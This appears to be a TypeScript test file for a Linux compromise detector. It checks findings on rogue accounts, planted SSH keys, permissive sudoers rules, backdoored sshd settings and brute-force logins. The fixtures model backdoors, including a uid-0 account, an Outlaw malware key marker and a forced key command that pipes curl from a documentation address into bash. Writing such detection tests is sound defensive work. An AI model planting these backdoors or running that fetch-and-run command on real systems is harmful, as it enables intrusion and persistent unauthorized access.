import assert from 'node:assert/strict'
import { test } from 'node:test'
import { userOf } from '../../test/facts.ts'
import { noIntel } from '../../test/intel.ts'
import type { Detector } from '../core/detector.ts'
import { entity } from '../core/entity.ts'
import type { Login, SshdSetting, SshKey, SudoRule } from '../core/facts/account.ts'
import { type Facts, factsOf } from '../core/facts.ts'
import type { Instant } from '../core/instant.ts'
import type { Intel } from '../core/intel.ts'
import { bruteForceThenLogin } from './brute-force-then-login.ts'
import { rogueAccount } from './rogue-account.ts'
import { rogueKey } from './rogue-key.ts'
import { rogueSudoers } from './rogue-sudoers.ts'
import { sshBackdoorSetting } from './ssh-backdoor-setting.ts'

const said = (detector: Detector, rows: Partial<Facts>, intel: Intel = noIntel) =>
  [...detector.detect(factsOf(rows), intel, new Set())].map(f => `${f.severity} ${f.evidence[0].locator} ${f.title.en}`)

const keyOf = (given: Partial<SshKey> & { user: string }): SshKey => {
  const path = given.path ?? `/home/${given.user}/.ssh/authorized_keys`
  const fingerprint = given.fingerprint ?? 'SHA256:a'
  return {
    id: entity('key', `${path}#${fingerprint}`),
    line: 1,
    type: 'ssh-rsa',
    comment: 'me@laptop',
    options: '',
    ...given,
    path,
    fingerprint,
  }
}
const sudoOf = (who: string, given: Partial<SudoRule> = {}): SudoRule => ({
  path: '/etc/sudoers.d/x',
  line: 1,
  who,
  text: `${who} ALL=(ALL) NOPASSWD:ALL`,
  noPassword: true,
  all: true,
  mode: 0o440,
  ...given,
})

test('accounts: hits', () => {
  const users = [
    userOf({ name: 'bak', uid: 0, line: 2 }),
    userOf({ name: 'news', uid: 9, line: 3, shell: '/usr/sbin/nologin ' }),
    userOf({ name: 'games', uid: 5, line: 4, shell: '/bin/sh' }),
    userOf({ name: 'x', line: 5, shell: '/dev/shm/.b/bash' }),
    userOf({ name: 'a\u001b[2K', line: 6 }),
    userOf({ name: 'ann', line: 7, password: 'empty' }),
    userOf({ name: 'lp', uid: 7, line: 8, shell: '/usr/sbin/nologin' }),
  ]
  assert.deepEqual(said(rogueAccount, { users }), [
    'medium /etc/passwd:2 account bak has uid 0, the powers of root',
    'high /etc/passwd:3 the shell of account news carries hidden blanks or control characters',
    'high /etc/passwd:4 the system account games can log in',
    'medium /etc/passwd:5 the shell of account x lies in a temporary or hidden place',
    'medium /etc/passwd:6 the name of an account holds control characters',
    'low /etc/passwd:7 account ann has an empty password',
    'low /etc/passwd:8 the system account lp has a password',
  ])
})

test('accounts: a system account that was given a key', () => {
  const users = [userOf({ name: 'mail', uid: 8, shell: '/bin/sh', password: 'locked' })]
  assert.deepEqual(said(rogueAccount, { users }), [])
  assert.equal(said(rogueAccount, { users, sshKeys: [keyOf({ user: 'mail' })] }).length, 1)
})

test('accounts: near misses', () => {
  const users = [
    userOf({ name: 'root', uid: 0, shell: '/bin/bash' }),
    userOf({ name: 'sync', uid: 4, shell: '/bin/sync', password: 'locked' }),
    userOf({ name: 'daemon', uid: 1, shell: '/bin/sh', password: 'locked' }),
    userOf({ name: 'postgres', uid: 101, shell: '/bin/bash', password: 'locked' }),
    userOf({ name: 'git', uid: 110, shell: '/usr/bin/git-shell', password: 'set' }),
    userOf({ name: 'ann', shell: '/home/ann/.nix-profile/bin/fish' }),
    userOf({ name: 'bob', shell: '/home/linuxbrew/.linuxbrew/bin/zsh' }),
    userOf({ name: 'news', uid: 1001 }),
    userOf({ name: 'nobody', uid: 65534, shell: '/usr/sbin/nologin', password: 'locked' }),
  ]
  assert.deepEqual(said(rogueAccount, { users }), [])
})

test('keys: hits', () => {
  const outlaw = { id: 'outlaw', name: 'Outlaw', paths: [], names: [], markers: ['mdrfckr'], mines: true, references: [] }
  const sshKeys = [
    keyOf({ user: 'a', comment: 'mdrfckr', fingerprint: 'SHA256:1' }),
    keyOf({ user: 'b', amidBinary: true, fingerprint: 'SHA256:2' }),
    keyOf({ user: 'news', path: '/var/spool/news/.ssh/authorized_keys', fingerprint: 'SHA256:3' }),
    keyOf({ user: 'root', path: '/root/.ssh/authorized_keys', fingerprint: 'SHA256:3' }),
    keyOf({ user: 'c', command: 'curl -s http://192.0.2.1/x | bash', fingerprint: 'SHA256:4' }),
    keyOf({ user: 'd', path: '/home/d/.ssh/authorized_keys2', fingerprint: 'SHA256:5' }),
  ]
  assert.deepEqual(said(rogueKey, { sshKeys }, { ...noIntel, families: [outlaw] }), [
    'critical /home/a/.ssh/authorized_keys:1 a key of Outlaw opens account a',
    'high /home/b/.ssh/authorized_keys:1 the key file of account b is a binary dump that was written there',
    'high /var/spool/news/.ssh/authorized_keys:1 one key opens several accounts, the system account news among them',
    'high /root/.ssh/authorized_keys:1 one key opens several accounts, the system account news among them',
    'medium /home/c/.ssh/authorized_keys:1 a key of account c runs an odd command at login',
    'low /home/d/.ssh/authorized_keys2:1 account d has keys in authorized_keys2',
  ])
})

test('keys: near misses: ordinary keys, one key for root and a person, forced commands, a longer word', () => {
  const family = { id: 'x', name: 'X', paths: [], names: [], markers: ['kal'], mines: true, references: [] }
  const sshKeys = [
    keyOf({ user: 'root', path: '/root/.ssh/authorized_keys' }),
    keyOf({ user: 'ann' }),
    keyOf({ user: 'postgres', fingerprint: 'SHA256:7', comment: 'kalinka@host' }),
    keyOf({ user: 'git', fingerprint: 'SHA256:8', command: '/opt/gitlab/embedded/service/gitlab-shell/bin/gitlab-shell key-1' }),
    keyOf({
      user: 'root',
      fingerprint: 'SHA256:9',
      command: `echo 'Please login as the user "ubuntu" rather than the user "root".';echo;sleep 10`,
    }),
    keyOf({ user: 'bak', fingerprint: 'SHA256:10', command: 'rrsync -ro /var/tmp-data' }),
  ]
  assert.deepEqual(said(rogueKey, { sshKeys }, { ...noIntel, families: [family] }), [])
})

test('sudo: hits and near misses', () => {
  const sudoRules = [
    sudoOf('games', { line: 1 }),
    sudoOf('www-data', { line: 2 }),
    sudoOf('ALL', { line: 3 }),
    sudoOf('ann', { line: 4, path: '/etc/sudoers.d/open', mode: 0o666 }),
    sudoOf('bob', { line: 5, path: '/etc/sudoers.d/open', mode: 0o666 }),
  ]
  assert.deepEqual(
    said(rogueSudoers, { sudoRules }).map(s => s.split(' ').slice(0, 2).join(' ')),
    ['high /etc/sudoers.d/x:1', 'low /etc/sudoers.d/x:2', 'low /etc/sudoers.d/x:3', 'medium /etc/sudoers.d/open:4'],
  )
  const ordinary = [
    sudoOf('ubuntu', { path: '/etc/sudoers.d/90-cloud-init-users' }),
    sudoOf('%wheel', { noPassword: false }),
    sudoOf('ALL', { noPassword: false, text: 'ALL ALL=(ALL) ALL' }),
    sudoOf('zabbix', { all: false, text: 'zabbix ALL=NOPASSWD: /usr/bin/nmap' }),
  ]
  assert.deepEqual(said(rogueSudoers, { sudoRules: ordinary }), [])
})

test('sshd settings: hits and near misses', () => {
  const of = (...settings: readonly [string, string][]): SshdSetting[] =>
    settings.map(([key, value], i) => ({ path: '/etc/ssh/sshd_config', line: i + 1, key, value, match: '' }))
  const bad = of(
    ['authorizedkeysfile', '.ssh/authorized_keys /tmp/.k'],
    ['authorizedkeyscommand', '/var/tmp/k %u'],
    ['permitrootlogin', 'yes'],
    ['permitemptypasswords', 'yes'],
    ['authorizedkeysfile', '/var/log/%u'],
  )
  assert.deepEqual(
    said(sshBackdoorSetting, { sshdSettings: bad }).map(s => s.split(' ').slice(0, 2).join(' ')),
    ['medium /etc/ssh/sshd_config:1', 'medium /etc/ssh/sshd_config:2', 'low /etc/ssh/sshd_config:4', 'low /etc/ssh/sshd_config:5'],
  )
  const good = of(
    ['authorizedkeysfile', '.ssh/authorized_keys /etc/ssh/keys/%u %h/.ssh/authorized_keys2'],
    ['authorizedkeyscommand', '/usr/bin/sss_ssh_authorizedkeys'],
    ['forcecommand', 'internal-sftp'],
    ['permitrootlogin', 'yes'],
  )
  assert.deepEqual(said(sshBackdoorSetting, { sshdSettings: good }), [])
})

test('brute force and then a login; a person who mistypes, and other addresses', () => {
  const loginOf = (source: 'wtmp' | 'btmp', user: string, address: string, minute: number): Login => ({
    source,
    path: `/var/log/${source}`,
    type: source === 'wtmp' ? 'login' : 'failed',
    user,
    tty: 'ssh',
    host: address,
    address,
    pid: 1,
    at: new Date(Date.UTC(2026, 4, 1, 0, minute)).toISOString() as Instant,
  })
  const storm = (address: string, n: number, names: number) =>
    Array.from({ length: n }, (_, i) => loginOf('btmp', `u${i % names}`, address, i))
  const hit = [...storm('203.0.113.5', 25, 5), loginOf('wtmp', 'root', '203.0.113.5', 40)]
  assert.deepEqual(said(bruteForceThenLogin, { logins: hit }), ['medium /var/log/wtmp 203.0.113.5 logged in as root after 25 failures'])
  const inside = [...storm('10.0.0.5', 25, 5), loginOf('wtmp', 'root', '10.0.0.5', 40)]
  assert.ok(said(bruteForceThenLogin, { logins: inside })[0]?.startsWith('low'))
  const misses = [
    ...storm('203.0.113.6', 25, 1),
    loginOf('wtmp', 'u0', '203.0.113.6', 40),
    ...storm('203.0.113.7', 10, 5),
    loginOf('wtmp', 'root', '203.0.113.7', 40),
    ...storm('203.0.113.8', 50, 9),
    loginOf('wtmp', 'root', '203.0.113.9', 60),
    loginOf('wtmp', 'root', '203.0.113.8', 3000),
  ]
  assert.deepEqual(said(bruteForceThenLogin, { logins: misses }), [])
})
